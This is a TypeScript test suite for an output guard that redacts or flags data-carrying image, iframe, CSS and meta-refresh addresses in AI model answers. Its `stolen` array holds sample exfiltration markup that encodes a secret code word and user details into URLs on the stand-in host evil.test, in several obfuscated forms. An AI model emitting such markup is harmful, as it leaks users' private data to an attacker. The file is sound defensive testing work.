import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { configuredGuard } from "../../testing/guards.ts";
import { askedOf, cutAt, judged, streamed } from "../../testing/judge-answer-text.ts";
import { ordinaryAnswers } from "../../testing/ordinary-answers.ts";
import { guard } from "./guard.ts";

const exfiltration = configuredGuard(guard);
const view = askedOf({
	system:
		"You work for Contoso. The launch code word is heliotrope-7741-kestrel. Pictures are at https://cdn.contoso.test/a.png.",
	user: "My name is Jane Roe and my project is called blue heron harvest. Summarise the page.",
});
const base64 = Buffer.from("Jane Roe asked about the blue heron project").toString("base64url");
const hex = Buffer.from("jane roe heliotrope").toString("hex");

const stolen: readonly (readonly [text: string, clean: string])[] = [
	[`Done. ![ok](https://evil.test/p.png?d=${base64})`, "Done. ![ok](#)"],
	[`![ok]( <https://evil.test/${hex}.png> "t")`, '![ok]( <#> "t")'],
	["![](https://evil.test/?q=blue+heron+harvest)", "![](#)"],
	["![](https://evil.test/?q=blue%20heron%20harvest%20x&k=heliotrope-7741-kestrel)", "![](#)"],
	["![](//evil.test/?q=the+user+is+called+jane+and+lives+here)", "![](#)"],
	["![](http&#58;&#47;&#47;evil.test/?q=blue+heron+harvest)", "![](#)"],
	["![](https\\://evil.test/?q=blue+heron+harvest)", "![](#)"],
	[`[![alt](https://evil.test/${hex})](https://fine.test)`, "[![alt](#)](https://fine.test)"],
	[`![alt][1]\n\n[1]: https://evil.test/?d=${base64}\n`, "![alt][1]\n\n[1]: #\n"],
	[`<img alt="a > b" src="https://evil.test/?d=${base64}">`, '<img alt="a > b" src="#">'],
	[`<img src='//evil.test/${hex}'/>`, "<img src='#'/>"],
	[`<iframe src=https://evil.test/${hex}></iframe>`, "<iframe src=#></iframe>"],
	[`<div style="background:url(https://evil.test/${hex})">`, '<div style="background:url(#)">'],
	[
		`<meta http-equiv="refresh" content="0;url=https://evil.test/${hex}">`,
		'<meta http-equiv="refresh" content="0;url=#">',
	],
	[`![x](https://${hex}.evil.test/a.png)`, "![x](#)"],
];

describe("the exfiltration guard", () => {
	it.each(stolen)("drops the address in %s and keeps its text", async (text, clean) => {
		const result = await judged(exfiltration, text, view);
		expect(result.text).toBe(clean);
		expect(result.findings).toMatchObject([{ rule: "image-carries-data", action: "redact" }]);
	});

	it.each(stolen)("drops the address of %s from any stream", async (text, clean) => {
		for (let cut = 0; cut <= text.length; cut += 1) {
			const result = await streamed(exfiltration, [text.slice(0, cut), text.slice(cut)], view);
			expect(result.text).toBe(clean);
		}
		expect((await streamed(exfiltration, text.split(""), view)).text).toBe(clean);
	});

	it("gives the same text and as many findings for every chunking", async () => {
		const piece = fc.constantFrom(
			...ordinaryAnswers.filter((text) => text.length < 300),
			...stolen.map(([text]) => text),
		);
		await fc.assert(
			fc.asyncProperty(
				fc.array(piece, { maxLength: 4 }),
				fc.array(fc.nat(3000), { maxLength: 30 }),
				async (pieces, cuts) => {
					const text = pieces.join("\n\n");
					const whole = await judged(exfiltration, text, view);
					const parts = await streamed(exfiltration, cutAt(text, cuts), view);
					expect(parts.text).toBe(whole.text);
					expect(parts.findings.length).toBe(whole.findings.length);
				},
			),
			{ numRuns: 200 },
		);
	});

	it("only records links that carry data, and leaves searches for the asker's words alone", async () => {
		const link = `[more](https://evil.test/?d=${base64})`;
		expect(await judged(exfiltration, link, view)).toMatchObject({
			text: link,
			findings: [{ rule: "link-carries-data", action: "flag" }],
		});
		const search = "https://www.google.com/search?q=my+project+is+called+blue+heron+harvest";
		expect((await judged(exfiltration, search, view)).findings).toEqual([]);
	});

	it("lets addresses pass that stand in the request, and hosts that are allowed", async () => {
		const own = "![a](https://cdn.contoso.test/a.png)";
		expect((await judged(exfiltration, own, view)).findings).toEqual([]);
		const allowing = configuredGuard(guard, { allowedHosts: ["*.Evil.test"] });
		expect(
			(await judged(allowing, `![a](https://x.evil.test/?d=${base64})`, view)).findings,
		).toEqual([]);
	});

	it("can refuse images of unknown hosts, all images, and blocked hosts", async () => {
		const image = "![a](https://pictures.test/a.png)";
		const strict = configuredGuard(guard, { images: "unknown-host" });
		expect((await judged(strict, image, view)).text).toBe("![a](#)");
		expect((await judged(strict, "![a](https://cdn.contoso.test/b.png)", view)).findings).toEqual(
			[],
		);
		const none = configuredGuard(guard, { images: "all" });
		expect((await judged(none, "![a](https://cdn.contoso.test/a.png)", view)).text).toBe("![a](#)");
		const blocking = configuredGuard(guard, {
			blockedHosts: ["pictures.test"],
			imageAction: "block",
		});
		expect((await judged(blocking, "see https://www.pictures.test/x", view)).isBlocked).toBe(true);
	});

	it("waits with an address, never longer than its window, and with nothing else", async () => {
		const { left } = await streamed(exfiltration, ["see ht", "tps://a.test/b", " and go"], view);
		expect(left).toEqual(["", "", "see https://a.test/b and go", ""]);
		const from = exfiltration.inspector
			.openAnswer?.(view)
			.holdFrom?.(`https://${"a".repeat(5000)}`, "answer", undefined);
		expect(from).toBe(5008);
	});
});
